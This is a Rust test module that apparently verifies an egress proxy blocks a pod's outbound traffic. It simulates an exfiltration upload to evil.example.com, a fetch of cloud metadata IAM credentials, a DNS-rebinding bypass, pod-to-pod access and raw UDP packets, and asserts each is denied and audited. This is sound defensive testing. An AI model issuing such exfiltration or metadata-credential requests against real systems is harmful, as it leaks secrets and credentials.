//! What doesn't get out, and what the pod is told about it.

use anyhow::Result;

use super::egress::status;
use super::records::{line, reason_is};
use super::{Marker, Stage, ensure};
use crate::addresses::{METADATA, address_of};
use crate::capture::Capture;
use crate::outside::DOWNLINK;

pub(super) fn by_default(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let address = address_of("evil.example.com")
        .map(|a| a.to_string())
        .unwrap_or_default();
    let resolve = format!("evil.example.com:80:{address}");
    let done = planner.curl(&[
        "--resolve",
        &resolve,
        "http://evil.example.com/upload?data=secret-plans",
    ])?;
    say.ran("pod", &done);
    ensure(status(&done) == Some(403), "the pod didn't get a 403")?;
    ensure(
        done.stdout.contains("evil.example.com"),
        "the refusal doesn't name the host",
    )?;
    ensure(
        node.outside.requests_to("evil.example.com")?.is_empty(),
        "the upstream got the request",
    )?;
    say.saw("upstream", "nothing");
    let audit = node.audit_line("that the request was denied", |l| {
        reason_is(l, "EGRESS_DENIED_BY_POLICY") && l["destination"]["host"] == "evil.example.com"
    })?;
    say.saw("audit", &line(&audit));
    ensure(
        !audit.to_string().contains("secret-plans"),
        "the audit line has the query",
    )?;
    say.proved(Marker::EgressDenied);
    Ok(())
}

pub(super) fn by_rule(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let name = "prod-db.internal.example.com";
    let address = address_of(name).map(|a| a.to_string()).unwrap_or_default();
    let done = planner.curl(&[
        "--resolve",
        &format!("{name}:80:{address}"),
        &format!("http://{name}/"),
    ])?;
    say.ran("pod", &done);
    ensure(status(&done) == Some(403), "the pod didn't get a 403")?;
    ensure(
        done.stdout.contains("production-db"),
        "the refusal doesn't name the rule",
    )?;
    ensure(
        node.outside.requests_to(name)?.is_empty(),
        "the upstream got the request",
    )?;
    let audit = node.audit_line("that the rule denied it", |l| {
        l["rule"] == "production-db" && l["decision"] == "deny"
    })?;
    say.saw("upstream", "nothing");
    say.saw("audit", &line(&audit));
    Ok(())
}

pub(super) fn metadata(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let done = planner.curl(&[&format!("http://{METADATA}/latest/meta-data/iam/")])?;
    say.ran("pod", &done);
    ensure(status(&done) == Some(403), "the pod didn't get a 403")?;
    let done = planner.curl(&[
        "--resolve",
        "rebind.example.com:80:203.0.113.10",
        "http://rebind.example.com/latest/",
    ])?;
    say.ran("pod", &done);
    ensure(
        status(&done) == Some(403),
        "a name that resolves to the metadata service gets through",
    )?;
    let reached: Vec<_> = node
        .outside
        .requests()?
        .into_iter()
        .filter(|s| s.to == METADATA.to_string())
        .collect();
    ensure(reached.is_empty(), "the metadata service was reached")?;
    say.saw("upstream", "nothing");
    let audit = node.audit_line("that the metadata service was denied", |l| {
        l["decision"] == "deny" && l["destination"]["ip"] == METADATA.to_string()
    })?;
    say.saw("audit", &line(&audit));
    Ok(())
}

pub(super) fn direct_bypass(stage: &mut Stage) -> Result<()> {
    let Stage {
        node,
        planner,
        untrusted,
        say,
    } = stage;
    let server = untrusted.place().spawn(
        "pod-server",
        &[
            "socat",
            "-v",
            "TCP-LISTEN:8080,fork,reuseaddr",
            "SYSTEM:echo HTTP/1.0 200 OK; echo; echo secret-of-the-other-pod",
        ],
        &[],
    )?;
    crate::outside::wait_for_port(untrusted.place(), "127.0.0.1:8080")?;
    let done = planner.curl(&[&format!("http://{}:8080/", untrusted.ip)])?;
    say.ran("pod", &done);
    ensure(status(&done) == Some(403), "the pod didn't get a 403")?;
    ensure(
        !server.log_text().contains("GET /"),
        "the other pod was reached",
    )?;
    say.saw("other pod", "nothing");
    let audit = node.audit_line("that the bypass was denied", |l| {
        reason_is(l, "DIRECT_BYPASS_DENIED_BY_ZEROPROXY")
    })?;
    say.saw("audit", &line(&audit));
    ensure(
        audit["direction"] == "bypass",
        "the audit line is of another direction",
    )?;
    say.proved(Marker::DirectBypassDenied);
    Ok(())
}

pub(super) fn other_packets(stage: &mut Stage) -> Result<()> {
    let Stage {
        node, planner, say, ..
    } = stage;
    let uplink = Capture::start(node.outside.place(), "uplink-other-packets", DOWNLINK, "")?;
    let done = planner.sh(
        "for i in 1 2 3; do echo quic > /dev/udp/203.0.113.10/443; done; echo sent 3 UDP packets to port 443; \
         ping -c 2 -W 1 203.0.113.10 | tail -2",
    )?;
    say.ran("pod", &done);
    let packets = uplink.stop()?.packets("")?;
    say.saw("uplink", &format!("{} packets", packets.len()));
    ensure(
        packets.is_empty(),
        &format!("packets got out: {}", packets.join("; ")),
    )?;
    let audit = node.audit_line("that the kernel dropped them", |l| {
        l["direction"] == "kernel"
            && l["pod"]["name"] == "planner"
            && l["destination"]["port"] == 443
    })?;
    say.saw("audit", &line(&audit));
    Ok(())
}
